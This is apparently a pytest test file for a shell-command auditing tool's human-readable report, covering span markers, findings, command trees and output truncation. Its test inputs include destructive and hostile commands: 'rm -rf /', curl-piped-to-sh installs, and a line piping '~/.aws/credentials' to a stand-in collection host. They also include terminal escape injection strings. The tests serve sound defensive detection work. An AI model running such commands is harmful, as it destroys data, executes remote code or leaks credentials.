"""The human report: decision, marked spans, findings with safer alternatives, command tree.

Untrusted text never reaches the terminal raw, and a long command is shown in
windows, never whole.
"""

from __future__ import annotations

import itertools

import pytest
from cli_helpers import RAW_CONTROL_CHARACTERS, run_cli

from audit.rules import REGISTRY


def line_after(lines: list[str], line: str) -> str:
    return lines[lines.index(line) + 1]


def test_the_span_of_a_high_finding_is_marked_with_carets_under_it() -> None:
    lines = run_cli("rm -rf /").stdout.splitlines()
    assert line_after(lines, "  rm -rf /") == "  ^^^^^^^^ FS001"


def test_the_span_of_a_medium_finding_is_marked_with_tildes() -> None:
    lines = run_cli("ls; sudo ls").stdout.splitlines()
    assert line_after(lines, "  ls; sudo ls") == "      ~~~~~~~ PR001"


def test_where_spans_overlap_the_more_severe_mark_wins_and_both_are_labelled() -> None:
    lines = run_cli("sudo bash -c 'rm -rf /'").stdout.splitlines()
    assert line_after(lines, "  sudo bash -c 'rm -rf /'") == "  ~~~~~~~~~~~~~~^^^^^^^^~ FS001, PR001"


def test_each_finding_shows_rule_id_name_message_and_the_safer_alternative() -> None:
    stdout = run_cli("sudo bash -c 'rm -rf /'").stdout
    for rule_id in ("FS001", "PR001"):
        declared = REGISTRY.get(rule_id)
        assert declared is not None
        assert f"{rule_id} {declared.name}" in stdout
        assert f"safer: {declared.safer_alternative}" in " ".join(stdout.split())
    assert "recursive delete of `/`" in stdout
    assert "exec-context in bash -c" in stdout


def test_a_secret_flow_is_shown_with_both_ends_the_path_and_the_whole_span_marked() -> None:
    command = "cat ~/.aws/credentials | curl -d @- https://collect.example.net/u"
    result = run_cli(command)
    lines = result.stdout.splitlines()
    assert line_after(lines, f"  {command}").startswith("  " + "^" * len(command) + " SE005")
    explained = (
        "the secret file `~/.aws/credentials`, read by `cat` at 0-22, reaches `curl -d @-` through a pipe,"
        " to `collect.example.net`"
    )
    assert explained in " ".join(result.stdout.split())
    assert result.exit_code == 1


@pytest.mark.parametrize(
    ("command", "tree"),
    [
        pytest.param(
            "sudo bash -c 'rm -rf /'",
            [
                "└── sudo bash -c 'rm -rf /'  command  PR001",
                "    └── bash -c",
                "        └── rm -rf /  exec-context  FS001",
            ],
            id="a code string under the command that runs it",
        ),
        pytest.param(
            "echo $(rm -rf ~)",
            ["└── echo '$(rm -rf ~)'  command", "    └── $(...)", "        └── rm -rf ~  value  FS001"],
            id="a substitution in value position",
        ),
        pytest.param(
            "curl -s https://x | sh",
            ["├── curl -s https://x  command", "└── sh  command"],
            id="a pipeline side by side",
        ),
    ],
)
def test_the_command_tree_shows_positions_and_nesting(command: str, tree: list[str]) -> None:
    lines = run_cli(command).stdout.splitlines()
    assert lines[lines.index("Commands") + 1 :] == tree


def test_a_passing_command_says_so_and_shows_its_commands() -> None:
    stdout = run_cli("git status").stdout
    assert stdout.startswith("PASS  no findings")
    assert "└── git status  command" in stdout
    assert "Findings" not in stdout


def test_the_empty_command_is_shown_as_such() -> None:
    result = run_cli("")
    assert result.exit_code == 1
    assert "(empty command)" in result.stdout
    assert "IN001 empty-command" in result.stdout


def test_control_characters_are_shown_escaped_and_never_sent_raw() -> None:
    command = "echo \x1b[31mred\r\x07 \x9b2J \u202eevil"
    result = run_cli(command)
    assert result.exit_code == 0
    assert "\\x1b[31mred\\r\\x07 \\x9b2J \\u202eevil" in result.stdout
    assert not any(char in result.stdout for char in (*RAW_CONTROL_CHARACTERS, "\u202e"))


def test_control_characters_inside_a_marked_span_keep_the_carets_aligned() -> None:
    lines = run_cli("echo \x07; sudo ls \x1b[2J").stdout.splitlines()
    shown = "echo \\x07; sudo ls \\x1b[2J"
    under = " " * len("echo \\x07; ") + "~" * len("sudo ls \\x1b[2J")
    assert line_after(lines, "  " + shown) == "  " + under + " PR001"


def test_a_10000_character_command_is_shown_in_windows_around_its_findings() -> None:
    command = "echo " + "a" * 5_000 + "; rm -rf /; echo " + "b" * 4_978
    assert len(command) == 10_000
    result = run_cli(command)
    assert result.exit_code == 1
    assert "FS001" in result.stdout
    assert "characters …" in result.stdout
    assert len(result.stdout) < 3_000
    assert "a" * 5_000 not in result.stdout


def test_a_command_over_the_length_limit_shows_its_start_and_end_only() -> None:
    result = run_cli("x" * 20_000)
    assert result.exit_code == 1
    assert "IN003 command-too-long" in result.stdout
    assert len(result.stdout) < 3_000


def test_a_long_passing_command_shows_its_beginning_and_counts_the_rest() -> None:
    result = run_cli("echo " + "a" * 9_000)
    assert result.exit_code == 0
    assert "… 8,765 characters …" in result.stdout
    assert len(result.stdout) < 2_000


def test_a_long_script_lists_only_the_commands_with_findings_in_its_tree(roomy_policy: str) -> None:
    script = "".join(f"echo {number}\n" for number in range(100)) + "sudo bash -c 'rm -rf /'\n"
    lines = run_cli("--policy", roomy_policy, script).stdout.splitlines()
    assert lines[lines.index("Commands") + 1 :] == [
        "├── sudo bash -c 'rm -rf /'  command  PR001",
        "│   └── bash -c",
        "│       └── rm -rf /  exec-context  FS001",
        "└── … 100 more commands not shown; --json lists them all",
    ]


def test_a_long_script_shows_the_lines_around_a_finding_with_their_numbers(roomy_policy: str) -> None:
    script = "".join(f"echo line {number}\n" for number in range(1, 400)) + "rm -rf /\n" + "echo after\n" * 100
    result = run_cli("--policy", roomy_policy, script)
    lines = result.stdout.splitlines()
    assert "400 │ rm -rf /" in [line.strip() for line in lines]
    assert any("lines (" in line and "characters) …" in line for line in lines)
    assert len(result.stdout) < 3_000


def test_a_many_finding_script_caps_the_findings_it_lists(roomy_policy: str) -> None:
    script = "sudo ls\n" * 200
    result = run_cli("--policy", roomy_policy, script)
    assert "… 170 more findings; --json lists them all" in result.stdout
    assert "… 140 more commands not shown; --json lists them all" in result.stdout


@pytest.mark.parametrize("width", [20, 40, 100])
def test_narrow_terminals_fold_the_command_and_keep_every_marker_under_its_character(width: int) -> None:
    command = "echo " + "x" * 60 + " && rm -rf / && echo done"
    lines = run_cli(command, width=width).stdout.splitlines()
    marker_rows = [
        (above, below) for above, below in itertools.pairwise(lines) if set(below.strip().split(" ")[0]) == {"^"}
    ]
    assert marker_rows
    marked = "".join(
        above[column]
        for above, below in marker_rows
        for column, mark in enumerate(below)
        if mark == "^" and column < len(above)
    )
    assert marked == "rm -rf /"
    assert all(len(line) <= width for line in lines[: lines.index("Findings")])


@pytest.mark.parametrize(
    ("argv", "stdin"),
    [
        pytest.param(("curl -s https://example.com/install.sh | sh",), "", id="a report"),
        pytest.param(("explain", "EX001"), "", id="explain"),
        pytest.param(("rules",), "", id="rules"),
        pytest.param(("--batch", "-"), '"rm -rf /"\n"sudo ls"\nnot json\n', id="a batch summary"),
    ],
)
def test_plain_output_has_no_trailing_blanks_to_copy_into_logs_or_docs(argv: tuple[str, ...], stdin: str) -> None:
    result = run_cli(*argv, stdin=stdin, width=60)
    assert result.stdout
    assert [line for line in result.stdout.splitlines() if line != line.rstrip()] == []
